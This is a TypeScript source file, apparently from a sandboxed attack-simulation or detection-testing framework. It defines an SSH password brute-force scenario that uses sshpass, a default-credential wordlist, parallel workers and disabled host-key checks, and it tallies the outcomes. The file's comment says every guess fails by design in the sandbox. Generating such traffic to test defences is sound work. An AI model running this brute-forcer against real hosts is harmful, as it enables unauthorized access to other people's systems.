// The SSH brute force: repeated password logins from the source to the target's sshd with a small
// wordlist (sshpass + ssh, one connection per guess). Every guess fails by construction: the
// sandbox sshd accepts only keys for root and has no other account.
import { spawn } from 'node:child_process';
import { intOption, type Scenario, type ScenarioEnv } from './scenario.js';

export const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'postgres'] as const;
export const PASSWORDS = [
  '123456',
  'password',
  'admin',
  'root',
  'qwerty',
  'letmein',
  'changeme',
  'toor',
  'welcome',
  'passw0rd',
  'dragon',
  'master',
  'shadow',
  'monkey',
  'abc123',
  'oracle',
] as const;

/** The n-th guess of the wordlist: every password for one user, then the next user. */
export function guess(n: number): { user: string; password: string } {
  return { user: USERS[Math.floor(n / PASSWORDS.length) % USERS.length]!, password: PASSWORDS[n % PASSWORDS.length]! };
}

export type AttemptResult = 'rejected' | 'accepted' | 'error';

function attempt(env: ScenarioEnv, user: string, password: string): Promise<AttemptResult> {
  const ssh = [
    'ssh',
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'LogLevel=ERROR',
    '-o',
    'PubkeyAuthentication=no',
    '-o',
    'PreferredAuthentications=password',
    '-o',
    'ConnectTimeout=5',
    `${user}@${env.dst.ip}`,
    'true',
  ];
  return new Promise((resolve) => {
    // the guess goes through the environment (-e), not argv, like a real tool would keep it
    const child = spawn(...env.runner.argv(env.src, 'sshpass', ['-e', ...ssh]), {
      stdio: 'ignore',
      env: { ...process.env, SSHPASS: password },
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), 15_000);
    child.on('error', () => resolve('error'));
    child.on('close', (code) => {
      clearTimeout(timer);
      // sshpass: 5 = wrong password; 0 = logged in; anything else is a connection problem
      resolve(code === 5 ? 'rejected' : code === 0 ? 'accepted' : 'error');
    });
  });
}

export const bruteforce: Scenario = {
  name: 'bruteforce',
  description: 'repeated failed SSH password logins with a small wordlist',
  defaultTargetRole: 'db',
  tools: [
    ['sshpass', 'sshpass'],
    ['ssh', 'openssh-client'],
  ],
  async run(env, o) {
    const attempts = intOption(o['attempts'], '--attempts', 40, 1, 10_000);
    const parallel = intOption(o['parallel'], '--parallel', 4, 1, 16);
    const deadline = env.now() + env.durationMs;
    const tally: Record<AttemptResult, number> = { rejected: 0, accepted: 0, error: 0 };
    let next = 0;
    const worker = async (): Promise<void> => {
      while (next < attempts && env.now() < deadline) {
        const g = guess(next++);
        tally[await attempt(env, g.user, g.password)]++;
      }
    };
    await Promise.all(Array.from({ length: parallel }, worker));
    env.log.info(
      `bruteforce: ${tally.rejected} rejected, ${tally.accepted} accepted, ${tally.error} connection errors`,
    );
    return {
      tool: 'sshpass+ssh',
      port: 22,
      attempts: next,
      rejected: tally.rejected,
      accepted: tally.accepted,
      errors: tally.error,
    };
  },
};
